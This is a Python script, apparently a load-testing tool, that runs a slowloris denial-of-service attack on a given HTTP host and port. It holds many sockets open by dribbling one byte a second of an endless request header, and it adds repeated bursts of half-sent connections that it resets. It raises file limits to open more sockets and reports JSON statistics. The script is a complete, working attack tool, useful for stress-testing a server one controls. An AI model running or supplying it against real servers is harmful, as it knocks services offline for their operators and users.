#!/usr/bin/env python3
"""Hostile load on an HTTP port, for SECONDS: SLOW slowloris sockets (one
byte of an endless head a second each; a socket the server closes is opened
again at once) and, every 2 s, a burst of BURST connects opened at once
(non-blocking), each sending the start of a request head, held a second,
then reset.
Prints {"slow_opened", "slow_closed_by_server", "slow_max_open", "bursts",
"burst_connected", "burst_failed"}.

usage: flood.py HOST PORT SLOW BURST SECONDS
"""
import json, resource, struct, selectors, socket, sys, time

host, port = sys.argv[1], int(sys.argv[2])
n_slow, n_burst, secs = int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])

# Room for every socket of this process (root may raise the hard limit).
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
want = n_slow + n_burst + 256
if soft != resource.RLIM_INFINITY and soft < want:
    new_hard = hard if hard == resource.RLIM_INFINITY else max(hard, want)
    resource.setrlimit(resource.RLIMIT_NOFILE, (want, new_hard))

HEAD = b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 100000
sel = selectors.DefaultSelector()
slow = {}  # socket -> bytes sent
stats = {"slow_opened": 0, "slow_closed_by_server": 0, "slow_max_open": 0,
         "bursts": 0, "burst_connected": 0, "burst_failed": 0}


def nb_connect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    try:
        s.connect((host, port))
    except BlockingIOError:
        pass
    except OSError:
        s.close()
        return None
    return s


def open_slow():
    s = nb_connect()
    if s is None:
        return
    slow[s] = 0
    sel.register(s, selectors.EVENT_READ)
    stats["slow_opened"] += 1


def close_slow(s, by_server):
    if by_server:
        stats["slow_closed_by_server"] += 1
    sel.unregister(s)
    del slow[s]
    s.close()


def burst():
    socks = [s for s in (nb_connect() for _ in range(n_burst)) if s is not None]
    # Reset on close: 10,000 TIME_WAITs a burst would use up the ports.
    for s in socks:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    stats["burst_failed"] += n_burst - len(socks)
    time.sleep(0.5)
    for s in socks:
        try:
            s.send(b"GET /api/status HTTP/1.1\r\nHost: x\r\n")
            stats["burst_connected"] += 1
        except OSError:
            stats["burst_failed"] += 1
    time.sleep(0.5)
    for s in socks:
        s.close()
    stats["bursts"] += 1


end = time.monotonic() + secs
for _ in range(n_slow):
    open_slow()
next_tick = next_burst = time.monotonic()
while time.monotonic() < end:
    now = time.monotonic()
    if now >= next_tick:
        next_tick = now + 1.0
        for s in list(slow):
            i = slow[s]
            try:
                s.send(HEAD[i % len(HEAD):i % len(HEAD) + 1])
                slow[s] = i + 1
            except (BlockingIOError, InterruptedError):
                pass  # still connecting
            except OSError:
                close_slow(s, True)
    if n_burst and now >= next_burst:
        next_burst = now + 2.0
        burst()
    for key, _ in sel.select(timeout=0.1):
        s = key.fileobj
        try:
            data = s.recv(4096)
        except (BlockingIOError, InterruptedError):
            continue
        except OSError:
            data = b""
        if not data:
            close_slow(s, True)
    while len(slow) < n_slow and time.monotonic() < end:
        before = len(slow)
        open_slow()
        if len(slow) == before:
            break
    stats["slow_max_open"] = max(stats["slow_max_open"], len(slow))
for s in list(slow):
    close_slow(s, False)
print(json.dumps(stats), flush=True)
